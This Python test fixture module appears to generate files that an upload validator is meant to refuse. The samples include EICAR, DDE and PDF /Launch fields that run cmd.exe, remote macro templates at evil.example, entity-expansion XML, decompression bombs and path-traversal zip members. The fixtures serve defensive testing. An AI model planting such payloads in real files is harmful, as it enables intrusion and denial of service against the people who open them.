"""Files nobody should send: name → bytes, and the reason for which each is refused."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.sessions.evidence.make import TYPES, docx, image, pdf, xlsx, zipped

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    '<w:document xmlns:w="x"><w:t>&b;</w:t></w:document>'
)
FOREIGN = "http://schemas.openxmlformats.org/package/2006/relationships"
TEMPLATE = (
    f'<Relationships xmlns="{FOREIGN}"><Relationship Id="r1" Type="{FOREIGN}/attachedTemplate" '
    'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
IMAGE_LINK = TEMPLATE.replace("attachedTemplate", "image")
SHARE_LINK = TEMPLATE.replace("http://evil.example/a.dotm", r"\\evil.example\share\a.dotm")
DDE = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'


def field(*pieces: str) -> str:
    """A field of a document whose code lies in several runs, as Word itself may write it."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    ends = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end")]
    return f"<w:p>{ends[0]}{runs}{ends[1]}</w:p>"


def template_at(address: str) -> bytes:
    """A document made from a template that lies there."""
    rels = TEMPLATE.replace("http://evil.example/a.dotm", address)
    return docx("x", extra={"word/_rels/s.xml.rels": rels})


def lying_zip() -> bytes:
    """A docx whose directory says that a large member is small."""
    data = bytearray(docx("x", extra={"word/big.xml": b"<a>" + b" " * 5_000_000 + b"</a>"}))
    at = data.find(b"PK\x01\x02")
    while data[at + 46 : at + 58] != b"word/big.xml":
        at = data.find(b"PK\x01\x02", at + 4)
    data[at + 24 : at + 28] = struct.pack("<L", 1000)
    return bytes(data)


def encrypted_zip() -> bytes:
    data = bytearray(docx("x"))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def twice_in_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in ("[Content_Types].xml", "word/document.xml", "WORD/document.xml"):
            archive.writestr(name, TYPES)
    return out.getvalue()


def huge_png(side: int = 12_000) -> bytes:
    """144 million pixels in some hundred bytes a row."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))
        )

    head = struct.pack(">2L5B", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * ((side // 8 + 1) * side))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def script_in_object_stream() -> bytes:
    packed = zlib.compress(b"9 0 << /S /JavaScript /JS (app.alert(1)) >>")
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\n"
    return pdf("x", extra=(stream % (len(packed), packed) + b"endstream",))


def bomb_pdf() -> bytes:
    packed = zlib.compress(b" " * 80_000_000, 9)
    stream = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
    return pdf("x", extra=(stream % (len(packed), packed),))


Bad = Iterator[tuple[str, bytes, str]]


def refused() -> Bad:
    """Name, bytes, the code of the refusal."""
    yield from strangers()
    yield from office_files()
    yield from pdf_files()
    yield from pictures()


def strangers() -> Bad:
    """What is not of the kinds taken, or not of the kind its name says."""
    yield "空.pdf", b"", "empty"
    yield "病毒.pdf", EICAR, "mismatch"
    yield "病毒.docx", EICAR, "mismatch"
    yield "病毒.jpg", EICAR, "mismatch"
    yield "病毒.com", EICAR, "not_taken"
    yield "网页.jpg", b"<html><script>alert(1)</script></html>", "mismatch"
    yield "网页.html", b"<html></html>", "not_taken"
    yield "图.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "not_taken"
    yield "图.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "mismatch"
    yield "照片.heic", b"\0\0\0\x18ftypheic", "phone_image"
    yield "动图.gif", b"GIF89a", "phone_image"
    yield "旧文档.doc", OLE, "old_format"
    yield "改名.docx", OLE, "old_format"
    yield "宏.docm", docx("x"), "old_format"
    yield "压缩包.zip", zipped({"a.txt": "x"}), "not_taken"
    yield "改名压缩包.docx", zipped({"a.txt": "x"}), "mismatch"
    yield "表格.docx", xlsx("x"), "mismatch"
    yield "文档.xlsx", docx("x"), "mismatch"
    yield "没有扩展名", pdf("x"), "not_taken"
    yield "双扩展名.pdf.exe", pdf("x"), "not_taken"
    yield "空字节.pdf\0.exe", b"MZ", "not_taken"


def office_files() -> Bad:
    yield "截断.docx", docx("学习" * 200)[:-40], "damaged"
    yield "附加.docx", docx("x") + b"MZ appended", "damaged"
    yield "谎报.docx", lying_zip(), "damaged"
    yield "加密.docx", encrypted_zip(), "encrypted"
    yield "重复.docx", twice_in_zip(), "bad_parts"
    yield "越界.docx", docx("x", extra={"../../etc/passwd": "x"}), "bad_parts"
    yield "绝对.docx", docx("x", extra={"/etc/passwd": "x"}), "bad_parts"
    yield "宏.docx", docx("x", extra={"word/vbaProject.bin": b"x"}), "active_content"
    yield "嵌入.docx", docx("x", extra={"word/embeddings/o.bin": b"x"}), "active_content"
    yield "程序.docx", docx("x", extra={"word/media/a.exe": b"MZ"}), "active_content"
    yield (
        "外链.xlsx",
        zipped(
            {
                "[Content_Types].xml": TYPES,
                "xl/workbook.xml": "<workbook/>",
                "xl/externalLinks/externalLink1.xml": "<a/>",
            }
        ),
        "active_content",
    )
    yield "命令.docx", docx("x", body=DDE), "active_content"
    yield "拆开的命令.docx", docx("x", body=field("D", "DE", "AUTO cmd")), "active_content"
    yield "编码的命令.docx", docx("x", body=field("QUOTE 68 68", " 69 65 85")), "active_content"
    for number, address in enumerate(
        (r"file:///\\evil\a.dotm", "file://evil/a.dotm", "file:///%5C%5Cevil/a.dotm", r"/\evil\a")
    ):
        yield f"共享{number}.docx", template_at(address), "external_parts"
    yield "实体.docx", docx("x", extra={"word/footnotes.xml": LAUGHS}), "unsafe_xml"
    yield (
        "编码.docx",
        docx("x", extra={"word/a.xml": '<?xml version="1.0" encoding="utf-7"?><a/>'}),
        "unsafe_xml",
    )
    yield "模板.docx", docx("x", extra={"word/_rels/s.xml.rels": TEMPLATE}), "external_parts"
    yield "图链.docx", docx("x", extra={"word/_rels/d.xml.rels": IMAGE_LINK}), "external_parts"
    yield "共享.docx", docx("x", extra={"word/_rels/s.xml.rels": SHARE_LINK}), "external_parts"
    yield "坏标记.docx", docx("x", extra={"word/a.xml": "<a><b></a>"}), "damaged"
    yield "炸弹.docx", docx("x", extra={"word/media/a.bmp": b"\0" * 70_000_000}), "bomb"
    yield "部件.docx", docx("x", extra={f"p/{n}.xml": "<a/>" for n in range(600)}), "too_many_parts"


def pdf_files() -> Bad:
    yield "脚本.pdf", pdf("x", catalog=b"/OpenAction << /S /JavaScript /JS (x) >>"), "pdf_active"
    yield "编码脚本.pdf", pdf("x", catalog=b"/OpenAction << /S /J#61vaScript >>"), "pdf_active"
    yield "启动.pdf", pdf("x", catalog=b"/OpenAction << /S /Launch /F (cmd) >>"), "pdf_active"
    yield "表单脚本.pdf", pdf("x", catalog=b"/AcroForm << /XFA 9 0 R >>"), "pdf_active"
    yield "藏脚本.pdf", script_in_object_stream(), "pdf_active"
    yield (
        "夹带.pdf",
        pdf("x", catalog=b"/Names << /EmbeddedFiles << >> >>"),
        "pdf_carries_files",
    )
    yield "口令.pdf", pdf("x").replace(b"/Root", b"/Encrypt 9 0 R /Root"), "encrypted"
    yield "炸弹.pdf", bomb_pdf(), "bomb"
    yield "双面.pdf", pdf("x") + docx("x"), "damaged"
    yield "双面二.pdf", b"%PDF-1.4\n" + docx("x")[:-2] + b"\x07\0\n%%EOF\n", "mismatch"
    yield "前缀.pdf", b"GIF89a" + pdf("x"), "mismatch"
    yield "无尾.pdf", pdf("x")[:-8], "damaged"
    yield "空壳.pdf", b"%PDF-1.4\n%%EOF\n", "damaged"


def pictures() -> Bad:
    yield "巨图.png", huge_png(), "too_many_pixels"
    yield "半张.jpg", image(size=(400, 300))[:600], "damaged"
    yield "半张.png", image("PNG", size=(400, 300))[:60], "damaged"
    yield "图片.jpg", image("PNG"), "mismatch"
    yield "图片.png", image("JPEG"), "mismatch"
    yield "只有头.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 100, "damaged"
